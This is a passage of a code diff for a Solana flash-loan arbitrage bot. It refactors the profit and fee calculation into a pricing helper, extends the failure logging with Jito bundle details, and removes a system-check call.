-                Math.max(config.JITO_MIN_TIP, Math.floor(grossProfit * config.JITO_TIP_PERCENTAGE)) : 0;
-            const netProfit = grossProfit - flashLoanFee - estimatedTip;
+            // Gross profit, fees, tip and net profit at these quotes
+            const pricing = await arbitrage.priceRoute(connection, {
+                reserve: flashReserves.getSolReserve(),
+                provider: selection.provider,
+                loanAmount: flashLoanAmount,
+                finalAmount: expectedSolReturn,
+                flashLoanFee: selection.fee,
+                quotes: [solToUsdcQuote, usdcToSolQuote]
+            });
+            const { verifiedProfit: grossProfit, profitPercentage, flashLoanFee, estimatedTip, netProfit } = pricing;
             
             console.log(`\n=== ARBITRAGE ANALYSIS ===`);
             console.log(`Full cycle: ${flashLoanAmount/1000000000} SOL → ${expectedUsdcAmount/1000000} USDC (${usdcAmountWithBuffer/1000000} with buffer) → ${expectedSolReturn/1000000000} SOL`);
@@ -1012,31 +1283,21 @@ const arbitrage = {
             if (config.JITO_MODE) {
                 console.log(`Estimated Jito tip: ${estimatedTip} lamports`);
             }
+            console.log(`Priority fee: ${pricing.priorityFee} lamports (${pricing.computeUnitPrice} micro-lamports/CU)`);
             console.log(`Expected net profit: ${netProfit} lamports`);
             
-            // EXECUTE ONLY BASED ON GROSS PROFIT PERCENTAGE >= 0.1%
-            if (profitPercentage < 0.1) {
-                console.log(`Gross profit percentage too low: ${profitPercentage.toFixed(4)}% (below threshold of 0.1%)`);
+            // Execute only when both the gross profit percentage and the net profit clear their thresholds
+            if (!pricing.profitable) {
+                console.log(`Not profitable enough: ${pricing.rejection}`);
                 return false;
             }
             
             // Create a verified opportunity object that matches the format expected by executeSimpleArbitrage
             const verifiedOpportunity = {
-                verifiedEdges: [
-                    {
-                        fromToken: { mint: config.WSOL_MINT.toString(), name: "SOL" },
-                        toToken: { mint: config.USDC_MINT.toString(), name: "USDC" }
-                    },
-                    {
-                        fromToken: { mint: config.USDC_MINT.toString(), name: "USDC" },
-                        toToken: { mint: config.WSOL_MINT.toString(), name: "SOL" }
-                    }
-                ],
-                verifiedProfit: grossProfit,
-                profitPercentage: profitPercentage,
-                flashLoanFee: flashLoanFee,
-                estimatedTip: estimatedTip,
-                netProfit: netProfit
+                ...pricing,
+                verifiedEdges: cycleEdges,
+                flashLoanAmount: loanAmount,
+                flashLoanProvider: selection.provider
             };
             
             // Execute the simple arbitrage directly
@@ -1052,7 +1313,12 @@ const arbitrage = {
                     execution_method: config.JITO_MODE ? "jito_bundle" : "transaction",
                     successful: false,
                     error: result.error,
-                    flash_loan_amount: config.KAMINO_FLASHLOAN_AMOUNT,
+                    bundleId: result.bundleId,
+                    bundle_status: result.bundleStatus,
+                    jito_regions_accepted: result.jitoRegions,
+                    signature: result.signature,
+                    send_status: result.sendStatus,
+                    flash_loan_amount: loanAmount,
                     expected_gross_profit: grossProfit,
                     flash_loan_fee: flashLoanFee,
                     estimated_tip: estimatedTip,
@@ -1064,8 +1330,6 @@ const arbitrage = {
                 return false;
             }
             
-            // Final system check
-            await ensureSystemIntegrity(payer, connection);
             return true;
         } catch (error) {
             console.error("Error executing Jupiter arbitrage:", error.message);